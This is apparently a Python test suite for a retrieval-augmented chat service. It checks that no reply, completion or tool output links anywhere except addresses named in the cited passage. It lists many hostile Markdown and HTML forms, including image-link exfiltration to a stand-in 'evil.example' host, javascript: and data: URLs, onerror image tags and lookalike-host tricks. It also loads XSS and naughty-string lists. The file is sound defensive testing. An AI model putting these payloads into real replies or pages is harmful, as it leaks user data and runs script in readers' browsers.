"""Completions, titles, addresses and questions of strangers: no reply leads anywhere that no cited passage names.

Every reply's text is read with a CommonMark parser; what is more than text must be an address of the one document that
there is. The lists are read where they are (../shared/data/adversarial); the forms below are always tried.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterable, Iterator, Mapping
from functools import cache
from itertools import product
from pathlib import Path
from typing import Any

import pytest
from attacks.reading import BEHIND, leads, nodes_lead
from attacks.tally import tally
from fakes import FakeChat, FakeIndex, deadline, make_evidence, make_hit, make_inputs
from hypothesis import given, settings
from hypothesis import strategies as st

from rag.config.settings import PROFILE_NAMES, ProfileName, load
from rag.errors import BadRequest
from rag.http.chat_completions import WITH_SOURCES, Chat, completion
from rag.http.replies import query_reply, question_reply, rendered_reply
from rag.mcp.tools import server
from rag.profiles import PROFILES
from rag.text.addresses import shown
from rag.stages.write.chat_writer import ChatWriter
from rag.text.labels import safe
from rag.values.answer import Answer, Hit, Question

pytestmark = pytest.mark.slow

DATA = Path(__file__).resolve().parents[3] / "shared" / "data" / "adversarial"
LISTS: Mapping[str, Path] = {"naughty strings": DATA / "blns" / "blns.json", "scripts": DATA / "xss" / "sample500.json"}
HELD = ("https://permits.example/import", "https://permits.example/guide", "img/desk.png", "desk@permits.example")
TEXT = (
    f"Permits take five working days, as the [guide](<{HELD[1]}>) says. ![Desk]({HELD[2]}) Write to {HELD[3]}, "
    "and never to [x](javascript:alert(1)) or [y](data:text/html,x)."
)
EVIL = "https://evil.example/?q=secret"
FORMS = (
    "[x]({evil})", "![x]({evil})", "<{evil}>", "{evil}", "www.evil.example/x", "[x]: {evil}\n\n[x] [y][x] ![z][x]",
    "[x]:\n{evil}\n'title'\n\n[x]", "![x]\n\n[x]: {evil}", "[![x]({evil})](https://permits.example/import)",
    "[x](//evil.example)", "[x](\\\\evil.example)", "[x](https:evil.example)", "[x](/\\evil.example)",
    "[x](https://permits.example@evil.example/import)", "[x](https://permits.example.evil.example/import)",
    "[x](https://permits.example/import.evil.example)", "https://permits.example*.evil.example/import",
    "https://permits.example\\.evil.example/import", "https&colon;//evil.example", "https\\://evil.example",
    "&#104;ttps://evil.example", "[x](java&#115;cript:alert(1))", "[x](javascript:alert(1))", "<javascript:alert(1)>",
    "[x](JaVaScRiPt:alert(1))", "[x](<java\tscript:alert(1)>)", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)", "[x](&#x0001;javascript:alert(1))", "\\`![x]({evil})`", "```a`b\n![x]({evil})",
    "text\n    ```\n![x]({evil})", "> ```\n![x]({evil})", "```\nx\n``` y\n![x]({evil})\n```\n![x]({evil})",
    "- ```\n\n![x]({evil})", "| a | b |\n|---|---|\n| ![x]({evil}) | [x|y]({evil}) |", "| [a | b]({evil}) |",
    "![a\nb](\n{evil}\n'c')", "> ![a\n> b]({evil})", "[id_1]({evil})", "[Import permits]({evil})",
    "[Import permits]: {evil}", "(Source: {evil})", "[^1]: {evil}", "[^1]:\n\n    ![x]({evil})", "` {evil} ``",
    "# ![x]({evil})", "![x]({evil})\n===", "**![x]({evil})**", "<img src={evil}>", "<a href='{evil}'>x</a>",
    "<div>\n\n![x]({evil})\n\n</div>", "<!-- > -->![x]({evil})", "<script>x</script>", "<style>@import '{evil}'",
    "a@evil.example", "<a@evil.example>", "mailto:a@evil.example", "ftp://evil.example", "[x](ftp://evil.example)",
    "\r![x]({evil})\r\n[y]({evil})", "![x]({evil}" + "\u200b)", "[x](https://permits.example\u3002evil.example)",
    "[" * 12 + "x" + "]({evil})" * 12, "![" * 12 + "x" + "]({evil})" * 12, "\\[x]({evil})", "!\\[x]({evil})",
    "[x]\\({evil})", "*a `b* {evil} c`d", "<https://permits.example/import >{evil}", "\ue000![x]({evil})",
)  # fmt: skip
PERMITS = make_hit(
    TEXT, number=1, cosine=0.9, title="Import permits", url=HELD[0], source_urls=(HELD[0],), section="Time"
)
TAKERS = (
    HELD[0], f"({HELD[0]}", "www.permits.example/import", HELD[3], f"mailto:{HELD[3]}", "https://", "www.", "www.e",
    "https://evil.example", "1https://evil.example", "xhttps://e", "https\uff1a//e.example", "\\a@evil.example", "$",
    "\\", "``", "[x", "|", "a\n-|-\n", "<td>|", "<b title='", "&#96;",
)  # fmt: skip
"""What some renderers join a tick to, or end a line or a cell with, before they look for code."""
LEADING = ("![b]({evil})", "[b]({evil})", "<img src=//evil.example/p onerror=x()>", "<a href={evil}>x</a>", "{evil}")
CODES = [form.format(one.format(evil=EVIL)) for form in ("`{}`", "` {} `", "``{}``", "`{}", "{}`") for one in LEADING]
SPREAD = (
    "``www.e`{}` ``", "``www.e`{}`", "- |`\n-|-\n``{}``", "| a | `b |\n| - | - |\n| {} | ` |", "`a\n- {}`",
    "$ ` $ {} `", "[a`{}`", "`a\n# {}`", "> `a\n> | {} `", "<td>|{}", "<table><tr><td>a|{}</td></tr></table>",
    "\\|{} |", f"{HELD[0]}*{{}}", f"{HELD[0]}|{{}}", f"{HELD[0]}[{{}}", f"{HELD[0]}\\{{}}", f"{HELD[0]}{{}}",
    f"{HELD[0]}\x0b{{}}",
)  # fmt: skip
ATOMS = (
    *"[]()!<>`|*_~\\&@$\n .", "``", "```\n", "\n\n", "    ", "> ", "- ", "\n|-|-|\n", "&#58;", "[x]: ", "[^1]:",
    "\ufeff", "\x0b",
    "https://", "www.", "//", "x", EVIL, HELD[0], HELD[3], "![x](", "[x](", "<b>", "<td>", "</td>", "<table><tr><td>",
    "<li>", "<!--", "<pre>", "<code>",
)  # fmt: skip
MARKS = {"waypoint": "[Import permits > Time]", "gacounts": f"(Source: {HELD[0]})", "clockify": "[id_1]"}


def strings(name: str) -> list[str]:
    if not LISTS[name].is_file():
        pytest.skip("needs ../shared/data/adversarial")
    found = json.loads(LISTS[name].read_text(encoding="utf-8"))
    return [one if isinstance(one, str) else json.dumps(one) for one in found]


@cache
def knobs(profile: ProfileName) -> Any:
    return load(PROFILES[profile].knobs, {"ENABLE_LLM_RERANKING": "false"})


def run(profile: ProfileName, said: str, hit: Hit = PERMITS, asked: str = "How long do permits take?") -> Answer:
    index = FakeIndex((hit,), evidence=make_evidence(1.0))
    inputs = make_inputs(index, ChatWriter(FakeChat(said), "{context}", lambda: "0123456789abcdef"))
    return PROFILES[profile].build(knobs(profile), inputs).run(Question(text=asked), deadline=deadline())


def is_named(address: str, text: str) -> bool:
    """Whether a document that says ``text`` everywhere names ``address``, and it is none that runs something."""
    runs = re.match(r"\W*(?:javascript|data|vbscript)", address, re.IGNORECASE)
    return runs is None and any(address.rstrip(".,)]\"'") in known for known in (text, shown(text), safe(text)))


class Asked:
    """What MCP asks: always the same answer."""

    def __init__(self, answer: Answer) -> None:
        self.answer = answer

    def ask(self, question: Question) -> Answer:
        return self.answer

    def search(self, text: str, *, k: int) -> tuple[Hit, ...]:
        return ()

    def chunk(self, chunk_id: str) -> Any:
        raise NotImplementedError


def texts(answer: Answer) -> Iterator[str]:
    """Every text of Markdown that a caller may get of ``answer``."""
    body = query_reply(answer)
    yield from (body["answer"], body["citationsMarkdown"], question_reply(answer, debug=True)["answer"])
    yield from (statement["text"] for statement in body["metadata"]["statements"])
    chat = Chat(question=answer.question, model=f"x{WITH_SOURCES}")
    yield completion(answer, chat)["choices"][0]["message"]["content"]
    called = {"name": "ask", "arguments": {"question": "x"}}
    message = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": called})
    reply = server(Asked(answer), profile="x", tell=str).respond(message).message or {}
    yield from (part["text"] for part in reply["result"]["content"])


def through(answer: Answer, held: Iterable[str] = HELD) -> list[tuple[str, str]]:
    """What in the replies of ``answer`` leads somewhere that is not ``held``."""
    own = {*held, *(f"mailto:{one}" for one in held)}
    found = [lead for text in dict.fromkeys(texts(answer)) for lead in leads(text)]
    found += [("node", href) for href in nodes_lead(rendered_reply(answer)["rendered"])]
    return [(kind, to) for kind, to in found if kind.startswith("html") or not own & {to, to.rstrip(BEHIND)}]


@pytest.mark.parametrize("profile", PROFILE_NAMES)
def test_forms(profile: ProfileName) -> None:
    got = {}
    for form in FORMS:
        said = form.format(evil=EVIL) if "{evil}" in form else form
        for whole in (said, f"Five days.\n\n{said} {MARKS[profile]}", f"{MARKS[profile]} {said}\n\n- {said}\n  {said}"):
            if found := through(run(profile, whole)):
                got[whole] = found
    assert got == {}


@pytest.mark.parametrize("profile", PROFILE_NAMES)
def test_what_takes_a_tick_before_code_does(profile: ProfileName) -> None:
    """Renderers differ in where code begins; what they take for none of it must lead nowhere."""
    cases = ["".join(parts) for parts in product(TAKERS, CODES)]
    cases += [form.format(one.format(evil=EVIL)) for form, one in product(SPREAD, LEADING)]
    got = {}
    cases = cases[PROFILE_NAMES.index(profile) :: len(PROFILE_NAMES)]  # one reader for all
    for said in cases:
        for whole in (f"Five days {MARKS[profile]}. {said}", f"- {said} {MARKS[profile]}"):
            if found := through(run(profile, whole)):
                got[whole] = found
    tally("ticks that renderers pair differently", cases=2 * len(cases), failures=len(got))
    assert got == {}


@pytest.mark.parametrize("profile", PROFILE_NAMES)
@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from(ATOMS), max_size=24).map("".join))
def test_no_completion_breaks_the_service(profile: ProfileName, said: str) -> None:
    assert through(run(profile, said)) == []
    assert through(run(profile, f"Five days {MARKS[profile]}. {said}")) == []


@pytest.mark.parametrize("kind", LISTS)
@pytest.mark.parametrize("profile", PROFILE_NAMES)
def test_completions_of_strangers(profile: ProfileName, kind: str) -> None:
    """Each string as the completion, and within one that cites."""
    cases = strings(kind)
    got = {}
    for text in cases:
        for said in (text, f"{text} takes five working days {MARKS[profile]}. {text}"):
            if found := through(run(profile, said)):
                got[said] = found
    tally(kind, cases=2 * len(cases), failures=len(got))
    assert got == {}


@pytest.mark.parametrize("kind", LISTS)
@pytest.mark.parametrize("profile", PROFILE_NAMES)
def test_documents_of_strangers(profile: ProfileName, kind: str) -> None:
    """Each string as title, section, source and page of the document that is cited, and as the question, repeated."""
    cases = strings(kind)
    got = {}
    for text in cases:
        hit = make_hit(
            TEXT, number=1, cosine=0.9, title=text, section=f"{text} > {text}", url=text, source_urls=(text, HELD[0])
        )
        mark = PROFILES[profile].build(knobs(profile), make_inputs(FakeIndex(), lambda *_: None)).pack((hit,))
        said = f"{text}\n\nFive days {mark.used[0].citation}."
        try:
            answer = run(profile, said, hit, asked=f"{text}?")
        except BadRequest:
            answer = run(profile, said, hit)
        # What the document itself names is held, but no script and no tag.
        named = through(answer)
        if found := [(kind, to) for kind, to in named if not is_named(to, text) or kind.startswith("html")]:
            got[text] = found
    tally(f"{kind} in documents", cases=len(cases), failures=len(got))
    assert got == {}


def test_what_the_cited_passage_holds_stays() -> None:
    said = (
        f"See the [guide]({HELD[1]}#top \"Guide\"), ![Desk]({HELD[2]}), <https://PERMITS.example:443/guide/> "
        f"and {HELD[0]}. Write to {HELD[3]} [Import permits > Time]."
    )  # fmt: skip
    assert run("waypoint", said).text.startswith(said[:-1])
